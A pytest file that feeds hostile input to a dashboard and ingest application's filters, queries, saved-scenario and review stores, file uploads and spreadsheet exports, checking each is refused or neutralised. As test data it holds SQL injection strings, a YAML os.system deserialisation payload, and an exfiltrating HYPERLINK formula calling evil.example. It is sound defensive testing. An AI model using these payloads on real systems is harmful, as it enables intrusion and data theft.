"""Hostile input (tests/hostile.py) thrown at everything a user or a file feeds in, below HTTP.

* the global filter (URL query string, dropdown values, the shell's store) and the shell's ``sync_filters``;
* every page query function, with the whole corpus bound at once and value by value;
* the scenario builder's inputs (envelope, weights, bounds, locks) and the saved scenario store (names, owners,
  descriptions, comments);
* BDP review notes;
* the files OBCMS imports (CSV drops; a PPA YAML file);
* the CSV and XLSX exports (spreadsheet formulas neutralised).

Shown every time: no exception other than the clean, documented one; unknown values ignored; text stored and read
back as typed; the published warehouse file unchanged (sha-256) and no file created by any COPY / ATTACH / EXPORT in
the corpus.
"""

from __future__ import annotations

import inspect
import io
import re
from collections.abc import Callable, Iterator
from decimal import Decimal
from pathlib import Path
from typing import Any
from urllib.parse import quote, urlencode

import duckdb
import openpyxl
import polars as pl
import pytest
import sqlalchemy as sa
from openpyxl.utils.escape import unescape

from dashboards import (
    alignment_queries,
    ceiling_queries,
    equity_queries,
    execution_queries,
    export,
    gap_queries,
    ids,
    policy_queries,
    quality_queries,
    queries,
    reviews,
    scenario_queries,
    scorecard_queries,
    sql,
)
from dashboards.app import sync_filters
from dashboards.filters import Filters
from dashboards.pages import alignment as alignment_page
from dashboards.pages import scenarios as scenario_page
from ingest import scenarios as store
from ingest.home import Home
from ingest.sources import SourceError
from ingest.warehouse import publish, published_path, read_only
from models.allocation import ScenarioSpec, StrategyWeight
from models.spec_json import spec_to_json
from tests import hostile

QUERY_MODULES = (
    queries,
    alignment_queries,
    ceiling_queries,
    equity_queries,
    execution_queries,
    gap_queries,
    policy_queries,
    quality_queries,
    scenario_queries,
    scorecard_queries,
)
# A selection of values no warehouse has: what every hostile selection must behave like.
UNKNOWN = Filters(moas=("\x01no such MOA",), sectors=("\x01no such sector",), areas=("\x01no such area",))
HUGE_DIGITS = "9" * 400  # more digits than a Decimal context (28) holds


@pytest.fixture(scope="module")
def watched(demo_home: Home) -> Iterator[Home]:
    """The demo home; afterwards its published warehouse is byte-for-byte what it was and the corpus's COPY /
    ATTACH / EXPORT targets do not exist."""
    assert hostile.nothing_written_by_the_corpus() == []
    before = hostile.tree_snapshot(demo_home.warehouse_dir)
    published = published_path(demo_home)
    yield demo_home
    assert published_path(demo_home) == published
    assert hostile.tree_snapshot(demo_home.warehouse_dir) == before
    assert hostile.nothing_written_by_the_corpus() == []


@pytest.fixture
def own_state(tmp_path: Path, demo_home: Home) -> Home:
    """A home of its own (state database) whose published warehouse is the demo's file, read-only."""
    home = Home(tmp_path / "home").ensure()
    publish(home, published_path(demo_home))
    return home


# ------------------------------------------------------------------------------------------ the filter
def _plain(filters: Filters) -> None:
    assert all(type(y) is int and 1000 <= y <= 9999 for y in filters.fiscal_years)
    for values in (filters.moas, filters.sectors, filters.areas):
        assert all(type(v) is str and v for v in values)


@pytest.mark.parametrize("value", hostile.ALL, ids=hostile.short_label)
def test_the_filter_takes_any_value_and_keeps_only_plain_years_and_texts(value: object) -> None:
    _plain(Filters.of(value, value, value, value))
    _plain(Filters.from_store({"fiscal_year": value, "moa": value, "sector": value, "area": value}))
    assert Filters.from_store(value if not isinstance(value, dict) else []) == Filters()  # not a mapping: nothing
    if isinstance(value, str):
        search = "?" + urlencode([(k, value) for k in ("fiscal_year", "moa", "sector", "area")])
        parsed = Filters.from_search(search)
        _plain(parsed)
        assert parsed.fiscal_years == ()  # no corpus text is a four-digit year
        if value.strip("\x00") and "\x00" not in value:
            assert parsed.moas == (value,)  # text survives the URL round trip exactly
            assert Filters.from_search(parsed.to_search()) == parsed
        _plain(Filters.from_search(value))  # the whole query string hostile


def test_years_are_four_digits_only() -> None:
    years = ["2025", 2024, " 2023 ", "٣٣٣٣", "１２３４", "2025.0", 2025.0, True, "1_000", "-2025", HUGE_DIGITS, 10**400]
    assert Filters.of(years).fiscal_years == (2025, 2024, 2023)


def test_the_selection_reaches_duckdb_as_data(watched: Home) -> None:
    """Every corpus text bound as one list parameter comes back out of DuckDB exactly as it went in."""
    texts = [t for t in hostile.TEXTS if t]
    filters = Filters.of(None, texts, texts, texts)
    with read_only(watched) as con:
        for name in ("moas", "sectors", "areas"):
            back = sql.frame(con, f"select unnest(${name}::varchar[]) as v", filters)["v"].to_list()
            assert back == list(getattr(filters, name))
        # and a condition built by sql.where matches none of them
        (count,) = sql.frame(con, f"select count(*) as n from dim_ppa where {sql.where()}", filters)["n"]
    assert count == 0


def _search(value: str) -> str:
    return "?" + "&".join(f"{k}={quote(value, safe='')}" for k in ("fiscal_year", "moa", "sector", "area"))


def test_sync_filters_ignores_hostile_urls_and_dropdown_values(watched: Home) -> None:
    with read_only(watched) as con:
        year = queries.fiscal_years(con)["fiscal_year"].to_list()[0]
        moa = queries.moas(con)["moa_acronym"].to_list()[0]
    for value in hostile.SHORT_TEXTS:
        # the URL decides (first load, back/forward): unknown values are ignored, known ones kept
        result = sync_filters(watched, None, _search(value) + f"&fiscal_year={year}&moa={quote(moa)}", [], [], [], [])
        assert result["filters"] == {"fiscal_year": [year], "moa": [moa], "sector": [], "area": []}, value
        assert result["alert_open"] is False
        # the dropdowns decide: the values are kept as typed and the URL spells them so they survive
        result = sync_filters(watched, ids.MOA, "", [value], [value, moa], [value], [value])
        assert result["filters"]["moa"] == list(Filters.of(None, [value, moa]).moas)
        assert result["filters"]["fiscal_year"] == []
        assert isinstance(result["search"], str)
        assert Filters.from_search(result["search"]) == Filters.from_store(result["filters"])
    for value in hostile.VALUES:
        result = sync_filters(watched, ids.FISCAL_YEAR, value, value, value, value, value)
        _plain(Filters.from_store(result["filters"]))


# ------------------------------------------------------------------------------------------ the queries
def _filter_functions() -> list[tuple[str, Callable[..., Any]]]:
    """Every public query function whose first two parameters are (con, filters)."""
    found = []
    for module in QUERY_MODULES:
        for name, function in inspect.getmembers(module, inspect.isfunction):
            if function.__module__ != module.__name__ or name.startswith("_"):
                continue
            if list(inspect.signature(function).parameters)[:2] == ["con", "filters"]:
                found.append((f"{module.__name__.rsplit('.', 1)[1]}.{name}", function))
    return found


def _extra_arguments(con: duckdb.DuckDBPyConnection, function: Callable[..., Any]) -> dict[str, Any]:
    """The required arguments beyond (con, filters), as the pages pass them."""
    extra: dict[str, Any] = {}
    for name, parameter in list(inspect.signature(function).parameters.items())[2:]:
        if parameter.default is not inspect.Parameter.empty:
            continue
        if name in ("year", "fiscal_year"):
            extra[name] = queries.fiscal_years(con)["fiscal_year"].to_list()[-1]
        elif name == "level":
            extra[name] = "province"
        elif name == "selection":
            extra[name] = gap_queries.NeedSelection()
        elif name in ("ceiling_id", "policy_id", "moa", "moa_key"):
            extra[name] = None
        elif name == "ppa_ids":
            extra[name] = []
        elif name == "per_box":
            from dashboards.alignment_figures import PPAS_PER_BOX

            extra[name] = PPAS_PER_BOX
        else:
            raise AssertionError(f"{function.__module__}.{function.__name__}: no value for {name}")
    return extra


def _rows(result: Any) -> list[str]:
    if isinstance(result, pl.DataFrame):
        return sorted(repr(r) for r in result.rows())
    if isinstance(result, list | tuple):
        return sorted(repr(r) for r in result)
    assert result is None or isinstance(result, int | str), type(result)
    return [repr(result)]


FILTER_FUNCTIONS = _filter_functions()


def test_there_are_query_functions_to_test() -> None:
    assert len(FILTER_FUNCTIONS) >= 40


@pytest.mark.parametrize(("name", "function"), FILTER_FUNCTIONS, ids=[n for n, _ in FILTER_FUNCTIONS])
def test_every_query_answers_a_hostile_selection_like_an_unknown_one(
    watched: Home, name: str, function: Callable[..., Any]
) -> None:
    everything = [v for v in hostile.ALL if not isinstance(v, bytes)]
    with read_only(watched) as con:
        extra = _extra_arguments(con, function)
        expected = _rows(function(con, UNKNOWN, **extra))
        # the whole corpus at once, in every dimension
        assert _rows(function(con, Filters.of(everything, everything, everything, everything), **extra)) == expected
        # and one value at a time (the SQL injections, the tampered values)
        for value in (*hostile.SQL_INJECTION, *hostile.VALUES, HUGE_DIGITS):
            filters = Filters.of(value, value, value, value)
            if filters.fiscal_years:  # a list holding a real year selects that year, like the unknown selection
                like = function(
                    con, Filters(filters.fiscal_years, UNKNOWN.moas, UNKNOWN.sectors, UNKNOWN.areas), **extra
                )
            else:
                like = None
            got = function(con, filters if filters != Filters() else UNKNOWN, **extra)
            assert _rows(got) == (expected if like is None else _rows(like)), (name, value)


def test_text_arguments_of_the_queries_are_bound(watched: Home) -> None:
    """The values a page passes besides the filter (a PPA, a ceiling, an area, the need selection) find nothing."""
    with read_only(watched) as con:
        for value in (t for t in hostile.SHORT_TEXTS if t):
            assert alignment_queries.ppa(con, value).height == 0
            assert execution_queries.ppa(con, value).height == 0
            assert execution_queries.work_item_tree(con, value).height == 0
            assert execution_queries.ledger(con, value).height == 0
            assert ceiling_queries.ceiling_ppas(con, Filters(), value).height == 0
            assert alignment_queries.ppa_labels(con, Filters(), [value]).height == 0
            assert gap_queries.area_name(con, value) is None
            selection = gap_queries.NeedSelection.of(value, [value], [value], value, value)
            assert selection.threshold == gap_queries.DEFAULT_THRESHOLD or 0 <= selection.threshold <= 10
            assert gap_queries.needs(con, Filters(), selection).height == 0
            assert gap_queries.needs(con, Filters(), selection, sort=value).height == 0


# ------------------------------------------------------------------------------------------ scenarios
@pytest.mark.parametrize("value", hostile.ALL, ids=hostile.short_label)
def test_scenario_amounts_and_weights_parse_or_say_why(value: object) -> None:
    for parse in (scenario_page.parse_amount, scenario_page.parse_weight):
        number, message = parse(value)
        assert number is None or message is None
        if message is not None:
            assert isinstance(message, str) and message
        if number is not None:
            assert isinstance(number, Decimal) and number.is_finite() and number >= 0


def test_an_amount_too_large_for_the_warehouse_is_refused_not_raised() -> None:
    """An amount of 17 or more integer digits (past DECIMAL(18, 2)), up to hundreds of digits (past a Decimal
    context), marks the field instead of failing the recompute."""
    for digits in (17, 27, 400):
        number, message = scenario_page.parse_amount("9" * digits)
        assert number is None and message and message.startswith("Too large")
    assert scenario_page.parse_amount("9" * 16) == (Decimal("9" * 16), None)


def _spec(envelope: object = "1000000", weights: dict | None = None, bounds=(), locks=None) -> tuple:
    return scenario_page.build_spec(
        envelope,
        weights if weights is not None else {"needs": "0.5", "equity": "0.5"},
        list(bounds),
        locks or {},
        [],
        "total",
        False,
        "skip",
    )


@pytest.mark.parametrize("value", hostile.ALL, ids=hostile.short_label)
def test_scenario_inputs_give_inline_errors(value: object) -> None:
    spec, problems = _spec(envelope=value)
    amount, message = scenario_page.parse_amount(value, required=True)
    if message:
        assert spec is None and problems["envelope"] == message
    else:
        assert spec is not None and spec.envelope == amount
    spec, problems = _spec(weights={"needs": value, "equity": "0.5"})
    if spec is None:
        assert isinstance(problems["weights"], str) and problems["weights"]
    else:
        assert {s.strategy: s.weight for s in spec.strategies}["equity"] == Decimal("0.5")
    spec, problems = _spec(bounds=[("sector", "social", value, value)])
    if spec is None:
        assert isinstance(problems["bounds"][("sector", "social")], str)
    spec, problems = _spec(locks={"ppa-1": value})
    if spec is None:
        assert problems["locked"].get("ppa-1") or problems.get("envelope")
    else:
        assert spec.locked == ({} if scenario_page.parse_amount(value)[0] is None else {"ppa-1": amount})


def _state_tables(home: Home, skip: tuple[str, ...]) -> dict[str, list]:
    """Every table of the state database but ``skip``, each as its sorted rows."""
    engine = sa.create_engine(home.state_url)
    try:
        meta = sa.MetaData()
        meta.reflect(engine)
        with engine.connect() as conn:
            return {
                name: sorted(map(repr, conn.execute(sa.select(table)).all()))
                for name, table in meta.tables.items()
                if name not in skip
            }
    finally:
        engine.dispose()


def test_saved_scenario_texts_are_stored_as_typed_and_bad_ones_refused(own_state: Home) -> None:
    url = own_state.state_url
    spec = ScenarioSpec(envelope=Decimal("1000.00"), strategies=(StrategyWeight("needs", Decimal(1)),))
    store.list_scenarios(url)  # creates the tables
    others = _state_tables(own_state, ("scenario", "scenario_version"))
    saved = refused = 0
    names: set[str] = set()
    for value in hostile.ALL:
        text = store._clean(value)  # whitespace runs become one space, ends trimmed: the documented rule
        try:
            row = store.save(url, spec, name=value, fiscal_year=2026, owner=value, description=value, comment=value)
        except store.ScenarioStoreError as error:
            refused += 1
            if text.lower() in names:  # "\t=1+1" is "=1+1" once cleaned: the name is taken
                assert "already called" in error.problems["name"]
                continue
            assert set(error.problems) <= {"name", "owner", "saved_by"} and error.problems
            assert not text or len(text) > store.OWNER_MAX
            continue
        saved += 1
        names.add(text.lower())
        back = store.load(url, row["scenario_id"])
        assert (back["name"], back["owner"], back["saved_by"]) == (text, text, text)
        assert (back["description"], back["comment"]) == (text, text)
        if isinstance(value, str) and value == " ".join(value.split()):
            assert back["name"] == value  # byte for byte
        assert back["spec_json"] == spec_to_json(spec)
    # the same name again (any case) is refused inline; the year is checked
    with pytest.raises(store.ScenarioStoreError) as error:
        store.save(url, spec, name="' OR '1'='1", fiscal_year=2026, owner="x")
    assert "already called" in error.value.problems["name"]
    for year in ("2026; drop table scenario", HUGE_DIGITS, 10**400, float("nan"), [2026], {"y": 2026}, True):
        with pytest.raises(store.ScenarioStoreError) as error:
            store.save(url, spec, name="year test", fiscal_year=year, owner="x")
        assert set(error.value.problems) == {"fiscal_year"}
    for status in (["draft"], {"draft": 1}, "approved'; --", None):
        with pytest.raises(store.ScenarioStoreError) as error:
            store.save(url, spec, name="status test", fiscal_year=2026, owner="x", status=status)
        assert set(error.value.problems) == {"status"}
    assert saved > 100 and refused >= 5
    assert len(store.list_scenarios(url)) == saved
    assert _state_tables(own_state, ("scenario", "scenario_version")) == others


# ------------------------------------------------------------------------------------------ BDP reviews
def test_review_notes_are_stored_as_typed_and_bad_reviews_refused(own_state: Home) -> None:
    with read_only(own_state) as con:
        ppa_id = alignment_queries.ppa_choices(con, Filters())["ppa_id"].to_list()[0]
        goal = alignment_queries.goals(con)["strategic_goal_id"].to_list()[0]
    reviews.stored(own_state)
    others = _state_tables(own_state, ("bdp_review",))
    saved = 0
    for value in hostile.ALL:
        text = value.strip() if isinstance(value, str) else ""
        # a hostile PPA, goal or reviewer is refused, with a sentence per problem
        with pytest.raises(reviews.ReviewError) as error:
            reviews.save(own_state, value, value, "note", "reviewer")
        assert error.value.problems and all(isinstance(p, str) for p in error.value.problems)
        try:
            row = reviews.save(own_state, ppa_id, goal, value, value)
        except reviews.ReviewError as error:
            assert not text or len(text) > reviews.REVIEWER_MAX
            continue
        saved += 1
        assert (row["note"], row["reviewer"]) == (text, text)
    stored = {r["review_id"]: r for r in reviews.stored(own_state)}
    assert len(stored) == saved > 50
    notes = {r["note"] for r in stored.values()}
    for value in hostile.SQL_INJECTION + hostile.MARKUP + hostile.FORMULAS:
        if value.strip() and len(value) <= reviews.REVIEWER_MAX:
            assert value.strip() in notes  # byte for byte (after trimming the ends)
    with pytest.raises(reviews.ReviewError, match="limit is 2,000"):
        reviews.save(own_state, ppa_id, goal, "x" * 100_000, "reviewer")
    assert _state_tables(own_state, ("bdp_review",)) == others


# ------------------------------------------------------------------------------------------ uploads
def _ppa_rows() -> tuple[list[str], list[list[str]]]:
    from tests.sources.test_files import PPA, _typed_rows, rows_of

    return rows_of(_typed_rows("sqlite://", with_pii=True), PPA)


def test_an_uploaded_csv_loads_hostile_text_as_data_and_rejects_hostile_numbers(tmp_path: Path) -> None:
    from tests.sources.test_files import PPA, run_files, write_csv

    names, rows = _ppa_rows()
    template = rows[0]
    texts = [t for t in hostile.SHORT_TEXTS if "\x00" not in t and t.strip() and len(t) <= 255]
    plain = re.compile(r"[0-9]+(\.[0-9]+)?")  # a budget as OBCMS writes one: not hostile
    numbers = [
        t for t in (*hostile.NUMBERS_AS_TEXT, *hostile.SQL_INJECTION[:5], *hostile.FORMULAS) if not plain.fullmatch(t)
    ]
    out: list[list[str]] = []
    expected_titles: dict[str, str] = {}
    for i, text in enumerate(texts):
        row = list(template)
        row[names.index("id")] = f"7a1e0000-0000-4000-8000-{i + 1:012d}"
        row[names.index("title")] = text
        row[names.index("summary")] = text
        out.append(row)
        expected_titles[row[0]] = text
    rejected_ids = {}
    for j, text in enumerate(numbers):
        row = list(template)
        row[names.index("id")] = f"7a1e0000-0000-4000-9000-{j + 1:012d}"
        row[names.index("budget_allocation")] = text
        out.append(row)
        rejected_ids[row[0]] = text
    folder = tmp_path / "drop"
    folder.mkdir()
    write_csv(folder / f"{PPA}.csv", names, out)
    con = duckdb.connect()
    outcomes, _ = run_files(con, folder)
    outcome = outcomes[PPA]
    loaded = dict(con.execute(f'select cast(id as varchar), title from raw."{PPA}"').fetchall())
    # hostile text is data: loaded exactly as written, and nothing ran
    titles = {k: loaded.get(k) for k in expected_titles}
    assert {k: v for k, v in titles.items() if v != expected_titles[k]} == {}
    assert con.execute(f'select count(*) from raw."{PPA}"').fetchall() == [(len(expected_titles),)]
    # a hostile budget rejects its row, naming the file, the line, the column and the value
    by_key = {r.row_key: r for r in outcome.rejects}
    assert set(by_key) >= set(rejected_ids)
    for key, text in rejected_ids.items():
        reject = by_key[key]
        # the column itself, or (``-0`` parses as 0) the check across columns that it broke
        assert reject.column_name == "budget_allocation" or "budget_allocation" in reject.reason, (text, reject)
        assert reject.location and reject.location.startswith(f"{PPA}.csv:"), reject
        assert reject.reason and (reject.column_name is None or reject.failure_value == text)
    assert hostile.nothing_written_by_the_corpus() == []


MALFORMED = {
    "unclosed quote": ('{header}\n{row}\n"{row}\n{row}\n', r"line 3"),
    "ragged line": ("{header}\n{row}\n{row},extra\n", r"line 3: \d+ values"),
    "UTF-16": ("{header}\n{row}\n", r"UTF-8|utf-8"),
    "bad byte": ("{header}\n{row}\n", r"UTF-8|utf-8"),
    "empty": ("", r"empty"),
    "semicolons": ("{semicolons}\n", r"semicolons"),
    "unknown column": ("{header},budget_alocation\n{row},3\n", r"budget_alocation"),
    "blank header": ("\n{row}\n", r"line 1"),
}


@pytest.mark.parametrize("case", MALFORMED)
def test_a_malformed_upload_fails_the_source_naming_the_file(tmp_path: Path, case: str) -> None:
    from tests.sources.test_files import PPA, run_files

    names, rows = _ppa_rows()
    template, message = MALFORMED[case]
    row = ",".join(f'"{v}"' if "," in v or '"' in v else v for v in (c.replace('"', '""') for c in rows[0]))
    text = template.format(header=",".join(names), row=row, semicolons=";".join(names))
    content = text.encode("utf-16") if case == "UTF-16" else text.encode("utf-8")
    if case == "bad byte":
        content = content.replace(b"Barangay", b"Barangay\xff", 1)
    folder = tmp_path / "drop"
    folder.mkdir()
    (folder / f"{PPA}.csv").write_bytes(content)
    con = duckdb.connect()
    with pytest.raises(SourceError, match=message) as error:
        run_files(con, folder)
    assert f"{PPA}.csv" in str(error.value)


def test_a_ppa_yaml_file_with_hostile_values_is_data_or_refused(tmp_path: Path) -> None:
    from ingest.ppa_yaml import load as load_yaml
    from ingest.sources import LoadContext

    folder = tmp_path / "ppa"
    folder.mkdir()
    # a YAML tag that would build a Python object: the safe loader refuses it, naming the file and line
    (folder / "moh.yaml").write_text("ministry: !!python/object/apply:os.system ['touch /tmp/oobc-hostile-yaml']\n")
    ctx = LoadContext(
        con=duckdb.connect(),
        run_id="r",
        source={"name": "ppa", "kind": "ppa_yaml", "path": str(folder), "fiscal_year": 2025},
        base_dir=tmp_path,
        progress=lambda *_: None,
        say=lambda _: None,
    )
    with pytest.raises(SourceError, match=r"moh\.yaml"):
        load_yaml(ctx)
    assert not Path("/tmp/oobc-hostile-yaml").exists()


# ------------------------------------------------------------------------------------------ exports
def test_exports_neutralise_spreadsheet_formulas() -> None:
    values = [*hostile.FORMULAS, "plain", "O'Brien", "-", "50% funded", "=", "+63 912 000 0000"]
    frame = pl.DataFrame(
        {
            "title": values,
            "amount": [Decimal("-1500.25")] * len(values),
            "count": [-1] * len(values),
        },
        schema={"title": pl.String, "amount": pl.Decimal(18, 2), "count": pl.Int64},
    )
    text = export.csv_bytes(frame).decode("utf-8-sig")
    back = pl.read_csv(io.StringIO(text), infer_schema=False)
    for original, cell in zip(values, back["title"].to_list(), strict=True):
        if original.startswith(export.FORMULA_START):
            assert cell == "'" + original
        else:
            assert cell == original
    assert set(back["amount"].to_list()) == {"-1500.25"} and set(back["count"].to_list()) == {"-1"}

    data = export.xlsx_bytes({"PPAs": frame}, [("Note", '=HYPERLINK("http://evil.example","x")')])
    book = openpyxl.load_workbook(io.BytesIO(data))
    sheet = book["PPAs"]
    for row, original in enumerate(values, start=2):
        cell = sheet.cell(row, 1)
        assert cell.data_type == "s" and unescape(cell.value) == original  # the text itself, never a formula
        assert cell.quotePrefix == original.startswith(export.FORMULA_START)
        assert sheet.cell(row, 2).value == -1500.25 and sheet.cell(row, 3).value == -1
    about = book["About"].cell(1, 2)
    assert about.data_type == "s" and about.quotePrefix
    assert not [c for ws in book for r in ws.iter_rows() for c in r if c.data_type == "f"]


def test_a_review_note_exported_from_the_alignment_page_is_neutralised(own_state: Home) -> None:
    with read_only(own_state) as con:
        ppa_id = alignment_queries.ppa_choices(con, Filters())["ppa_id"].to_list()[0]
    note = '=HYPERLINK("http://evil.example/?d="&A1,"details")'
    reviews.save(own_state, ppa_id, None, note, "@SUM(1+1)")
    tables = alignment_page.export_tables(Filters(), own_state)
    (name,) = [n for n, t in tables.tables.items() if "note" in t.columns]
    assert note in tables.tables[name]["note"].to_list()
    data = export.xlsx_bytes(tables.tables, [])
    sheet = openpyxl.load_workbook(io.BytesIO(data))[export.sheet_name(name, {"about"})]
    cells = [c for r in sheet.iter_rows() for c in r if c.value == note]
    assert cells and all(c.data_type == "s" and c.quotePrefix for c in cells)
    csv_text = export.csv_bytes(tables.tables[name]).decode("utf-8-sig")
    assert "'" + note.replace('"', '""') in csv_text and "'@SUM(1+1)" in csv_text


def test_no_corpus_statement_ran_anywhere() -> None:
    assert hostile.nothing_written_by_the_corpus() == []


def test_a_population_file_loads_hostile_names_as_data_and_rejects_hostile_figures(tmp_path: Path) -> None:
    from ingest.population import load as load_population
    from ingest.sources import LoadContext

    names = [
        t
        for t in hostile.SHORT_TEXTS
        if t.strip() == t and t and not any(c in t for c in "\t\n\r\x00\x1b\ufeff") and not t[0].isdigit()
    ]
    figures = [t for t in (*hostile.NUMBERS_AS_TEXT, *hostile.FORMULAS[:5], "' or 1=1 --") if "\t" not in t]
    lines = ["SULTAN KUDARAT\t1,000", "\tISULAN\t1,000"]
    named_line = {}
    for i, name in enumerate(names):
        lines.append(f"\t\t{name} {i}\t1")
        named_line[f"{name} {i}"] = len(lines)
    figure_line = {}
    for i, figure in enumerate(figures):
        lines.append(f"\t\tBarangay {i}\t{figure}")
        figure_line[len(lines)] = figure
    path = tmp_path / "region_xii_population_raw.txt"
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
    con = duckdb.connect()
    ctx = LoadContext(
        con=con,
        run_id="r",
        source={"name": "psa", "kind": "population", "paths": [path.name]},
        base_dir=tmp_path,
        say=lambda _line: None,
    )
    (outcome,) = load_population(ctx)
    loaded = dict(
        con.execute("select barangay_name, _line from raw.psa_population where level = 'barangay'").fetchall()
    )
    assert {n: loaded.get(n) for n in named_line} == named_line  # every hostile name loaded as written
    rejected = {int(r.location.rsplit(":", 1)[1]): r for r in outcome.rejects}
    for line, figure in figure_line.items():
        if figure.strip() in ("0", "-0") or (figure.isascii() and figure.isdigit()):
            continue  # a plain number is a population
        if not figure.isascii() and figure.isdigit():
            continue  # Python's int() reads Arabic-Indic and full-width digits: loaded as that number (reported)
        assert line in rejected, (line, figure)
        assert rejected[line].column_name == "population" and rejected[line].location == f"{path.name}:{line}"
